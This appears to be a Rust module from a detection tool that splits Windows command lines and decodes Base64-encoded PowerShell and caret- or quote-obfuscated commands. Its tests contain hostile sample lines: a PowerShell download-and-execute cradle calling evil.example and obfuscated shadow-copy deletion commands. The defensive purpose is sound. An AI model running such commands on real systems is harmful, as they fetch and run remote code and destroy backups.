//! Splits command lines into program and arguments, and decodes the texts hidden in them.

use crate::text::Untrusted;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::{Engine, alphabet};
use memchr::memmem::{self, Finder};
use std::ops::Range;
use std::sync::LazyLock;

pub(crate) const ENDINGS: [&[u8]; 6] = [b".exe", b".com", b".scr", b".tmp", b".bat", b".cmd"];

/// Finds the program of a command line, without quotation marks.
///
/// A path with blanks need not be quoted, and may have lost its opening quote. It ends where a
/// program's file name ends, or else at the first option or quoted word, or at the end.
pub fn program(line: &[u8]) -> Range<usize> {
    let start = line.len() - line.trim_ascii_start().len();
    let end = line.trim_ascii_end().len().max(start);
    let text = line.get(start..end).unwrap_or_default();
    if let Some(quoted) = text.strip_prefix(b"\"") {
        return start + 1..start + 1 + memchr::memchr(b'"', quoted).unwrap_or(quoted.len());
    }
    let word = text.iter().position(|byte| byte.is_ascii_whitespace() || *byte == b'"').unwrap_or(text.len());
    let is_path = text.get(..word).is_some_and(|word| word.contains(&b'\\'));
    let is_end = |end: &usize| {
        let ending = text.get(end.saturating_sub(4)..*end).unwrap_or_default();
        ENDINGS.iter().any(|known| ending.eq_ignore_ascii_case(known))
    };
    // A file's bare name may have blanks.
    let is_name = is_end(&text.len())
        && !text.iter().any(|byte| matches!(byte, b'\\' | b'/' | b'-' | b'"' | b'%'))
        && !text.get(..word).is_some_and(|word| word.contains(&b'.'));
    if is_name {
        return start..end;
    }
    if word == text.len() || !is_path {
        return start..start + word;
    }
    let mut ends = memchr::memchr2_iter(b' ', b'"', text).chain([text.len()]);
    let argument = [&b" -"[..], b" /", b"\""].iter().filter_map(|mark| memmem::find(text, mark)).min();
    let length = match ends.find(is_end).filter(|end| argument.is_none_or(|argument| *end <= argument)) {
        Some(end) => end,
        None => argument.map_or(text.len(), |_| word),
    };
    start..start + length
}

/// Splits a command line into program and arguments, without blanks and mark between them.
pub fn split(line: &[u8]) -> (&[u8], &[u8]) {
    let program = program(line);
    let rest = line.get(program.end..).unwrap_or_default();
    let rest = rest.strip_prefix(b"\"").filter(|rest| rest.first().is_none_or(u8::is_ascii_whitespace)).unwrap_or(rest);
    (line.get(program).unwrap_or_default(), rest.trim_ascii())
}

/// How often a decoded text is decoded again.
const MAX_DEPTH: usize = 4;

/// Maximum length of a line that is searched, and of the texts decoded from it, in bytes.
const MAX_DECODED: usize = 256 * 1024;

/// Minimum that a decoded text counts of it, which limits the number of texts.
const MIN_COUNTED: usize = 1024;

/// Minimum length of Base64: four letters of UTF-16 take eleven.
const MIN_BASE64: usize = 8;

/// PowerShell's option, which it accepts by any prefix.
const ENCODED_COMMAND: &[u8] = b"encodedcommand";

const FROM_BASE64: &[u8] = b"frombase64string";

/// Base64 as sandboxes cut it: the end may be missing.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Decodes texts hidden in a command line, each before those hidden in it: encoded commands, Base64
/// in a script, the line without carets and quotes that the shell removes. Mostly empty.
pub fn decoded(line: &[u8]) -> Vec<Untrusted> {
    let mut found = Vec::new();
    let mut room = MAX_DECODED;
    let mut level = hidden(line);
    for _ in 0..MAX_DEPTH {
        let mut below = Vec::new();
        for text in level {
            let Some(left) = room.checked_sub(text.len().max(MIN_COUNTED)) else { return found };
            room = left;
            below.extend(hidden(&text));
            found.push(Untrusted::from(text));
        }
        level = below;
    }
    found
}

/// Returns the texts that a line hides directly.
fn hidden(line: &[u8]) -> Vec<Vec<u8>> {
    let line = line.get(..MAX_DECODED).unwrap_or(line);
    if let Some(plain) = without_noise(line) {
        return vec![plain];
    }
    let commands = memchr::memchr3_iter(b'-', b'/', 0xe2, line).filter_map(|at| encoded_command(line, at));
    static DIGITS: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"64"));
    let strings = DIGITS.find_iter(line).filter_map(|at| base64_string(line, at));
    commands.chain(strings).filter_map(text).collect()
}

/// Returns the Base64 of an encoded command whose option begins here, with any of its dashes.
fn encoded_command(line: &[u8], at: usize) -> Option<&[u8]> {
    let before = at.checked_sub(1).and_then(|before| line.get(before));
    if before.is_some_and(|byte| !byte.is_ascii_whitespace() && !b"\"'".contains(byte)) {
        return None;
    }
    let rest = line.get(at..)?;
    let dash = if matches!(rest, [0xe2, 0x80, 0x93..=0x95, ..]) { 3 } else { 1 };
    let (name, rest) = word(rest.get(dash..)?, u8::is_ascii_alphabetic);
    let is_beginning = ENCODED_COMMAND.get(..name.len()).is_some_and(|known| name.eq_ignore_ascii_case(known));
    let is_option = !name.is_empty() && is_beginning || name.eq_ignore_ascii_case(b"ec");
    let (gap, rest) = word(rest, |byte| byte.is_ascii_whitespace() || b"\"':".contains(byte));
    let (base64, _) = word(rest, is_base64);
    (is_option && !gap.is_empty() && base64.len() >= MIN_BASE64).then_some(base64)
}

/// Returns the argument of `FromBase64String`, if the digits of that name are here.
fn base64_string(line: &[u8], digits: usize) -> Option<&[u8]> {
    let start = digits.checked_sub(b"frombase".len())?;
    let name = line.get(start..start + FROM_BASE64.len())?;
    let (gap, rest) = word(line.get(start + name.len()..)?, |byte| b"( '\"".contains(byte));
    let (base64, _) = word(rest, is_base64);
    (name.eq_ignore_ascii_case(FROM_BASE64) && gap.contains(&b'(') && base64.len() >= MIN_BASE64).then_some(base64)
}

fn is_base64(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// Splits off the leading bytes that satisfy `is_part`.
fn word(text: &[u8], is_part: impl Fn(&u8) -> bool) -> (&[u8], &[u8]) {
    text.split_at(text.iter().position(|byte| !is_part(byte)).unwrap_or(text.len()))
}

/// Returns the text that Base64 encodes, in UTF-16 or UTF-8; `None` if it is not text.
fn text(base64: &[u8]) -> Option<Vec<u8>> {
    let whole = base64.len() - usize::from(base64.len() % 4 == 1);
    let bytes = BASE64.decode(base64.get(..whole)?).ok()?;
    let is_wide = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count() > bytes.len() / 4;
    let text = if is_wide {
        let units = bytes.chunks_exact(2).filter_map(|pair| pair.first_chunk().copied()).map(u16::from_le_bytes);
        char::decode_utf16(units).map(|read| read.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
    } else {
        String::from_utf8(bytes).ok()?
    };
    let readable = text.bytes().filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace()).count();
    (readable > text.len() / 2).then(|| text.into_bytes())
}

/// Removes carets and quotes from noisy words such as `v^s^s` and `d"e"lete`; `None` without any. A
/// word with one quote, or with a separator of names and values, stays unchanged.
fn without_noise(line: &[u8]) -> Option<Vec<u8>> {
    let is_mark = |byte: &u8| matches!(byte, b'^' | b'"');
    let is_letter = |byte: &u8| byte.is_ascii_alphanumeric();
    let is_noise = |word: &[u8]| {
        let inside = word.trim_ascii();
        let first = inside.iter().position(is_letter);
        let last = inside.iter().rposition(is_letter);
        let inside = first.zip(last).and_then(|(first, last)| inside.get(first..=last)).unwrap_or_default();
        let quotes = inside.iter().filter(|byte| **byte == b'"').count();
        let is_plain = |byte: &u8| is_letter(byte) || is_mark(byte) || b".-_/\\".contains(byte);
        (inside.contains(&b'^') || quotes > 1) && inside.iter().all(is_plain)
    };
    memchr::memchr2(b'^', b'"', line)?;
    let words = line.split_inclusive(u8::is_ascii_whitespace);
    if !words.clone().any(is_noise) {
        return None;
    }
    let plain = |word: &[u8]| word.iter().copied().filter(|byte| !is_mark(byte)).collect();
    Some(words.flat_map(|word| if is_noise(word) { plain(word) } else { word.to_vec() }).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_end_where_their_arguments_begin() {
        for (line, program, arguments) in [
            ("choice  /C Y /N", "choice", "/C Y /N"),
            (r"cmd.exe /c del C:\x.exe", "cmd.exe", r"/c del C:\x.exe"),
            (r#""%ComSpec%" /c a"#, "%ComSpec%", "/c a"),
            (r#"C:\Program Files (x86)\A\r.exe" "C:\a b.pdf"#, r"C:\Program Files (x86)\A\r.exe", r#""C:\a b.pdf"#),
            (r"C:\Program Files\A\r.EXE -k x", r"C:\Program Files\A\r.EXE", "-k x"),
            (r"C:\My Folder\a b", r"C:\My Folder\a b", ""),
            (r"C:\Windows\System32\svchost -k a", r"C:\Windows\System32\svchost", "-k a"),
            (r#"<SYSTEM32>\cmd.exe /c "del C:\x.exe""#, r"<SYSTEM32>\cmd.exe", r#"/c "del C:\x.exe""#),
            ("/bin/sh -c ls", "/bin/sh", "-c ls"),
            ("Quarterly viewer.exe", "Quarterly viewer.exe", ""),
            (r#""C:\a b\c.exe"#, r"C:\a b\c.exe", ""),
            ("  ", "", ""),
        ] {
            assert_eq!(split(line.as_bytes()), (program.as_bytes(), arguments.as_bytes()), "{line}");
        }
    }

    fn base64(text: &str, is_wide: bool) -> String {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        BASE64.encode(if is_wide { &wide } else { text.as_bytes() })
    }

    fn hides(line: &str) -> Vec<String> {
        decoded(line.as_bytes()).iter().map(|text| String::from_utf8_lossy(text.as_bytes()).into_owned()).collect()
    }

    #[test]
    fn what_a_command_hides_is_decoded() {
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
        let wide = base64(command, true);
        let narrow = base64(command, false);
        let options = ["-e", "-ec", "-en", "/ENC", "-EncodedCommand", "\u{2013}enc", "-encod", "-enc:"];
        for option in options {
            assert_eq!(hides(&format!("powershell.exe -nop {option} {wide}")), [command], "{option}");
            assert_eq!(hides(&format!(r#""powershell" {option}  "{wide}""#)), [command], "{option}");
        }
        for call in ["FromBase64String('", "frombase64STRING( \"", "FromBase64String(('"] {
            assert_eq!(hides(&format!("iex([Text.Encoding]::UTF8.GetString([Convert]::{call}{narrow}'))")), [command]);
        }
        let nested = format!("powershell -e {wide}");
        assert_eq!(hides(&format!("pow^ershell -en^c {}", base64(&nested, true))).last().unwrap(), command);
        for (line, plain) in [
            ("c^m^d /c v^s^s^a^d^m^i^n", "cmd /c vssadmin"),
            (r#"cmd /c d"e"lete sha""dows /all"#, "cmd /c delete shadows /all"),
            ("p^owershell ^& a", "powershell ^& a"),
        ] {
            assert_eq!(hides(line), [plain]);
        }
        for is_wide in [true, false] {
            assert_eq!(hides(&format!("powershell -e {}", base64("calc.exe\0", is_wide))), ["calc.exe\0"]);
        }
        let cut = wide.get(..41).unwrap();
        assert_eq!(hides(&format!("powershell -enc {cut}")), ["IEX (New-Object"]);
    }

    #[test]
    fn what_hides_nothing_stays_and_the_rest_ends() {
        for line in [
            r#"cmd.exe /c"echo hi" && "C:\Program Files\a.exe" --name="x" ^& {"a":"b"}"#,
            "java -ea aGVsbG8gd29ybGQ=",
            "tool -e 57874b32c2596f25db81f780cb7ae5bd2277ff9ca0176b87fecf2352ec56938c",
            "curl -encoding SGVsbG8gd29ybGQgaGVsbG8=",
            "FromBase64String('AAECAwQFBgcICQ==')",
        ] {
            assert_eq!(hides(line), [""; 0], "{line}");
        }
        let mut deep = "end of it".to_owned();
        (0..12).for_each(|_| deep = format!("powershell -e {}", base64(&deep, false)));
        assert_eq!(hides(&deep).len(), MAX_DEPTH);
        for noise in ["^\"", "-e AAAAAAAA ", "a^", "FromBase64String('QUJDREVGR0g=')"] {
            let long = noise.repeat(MAX_DECODED);
            assert!(hides(&format!("a{long}b")).iter().map(String::len).sum::<usize>() <= MAX_DECODED);
        }
    }
}
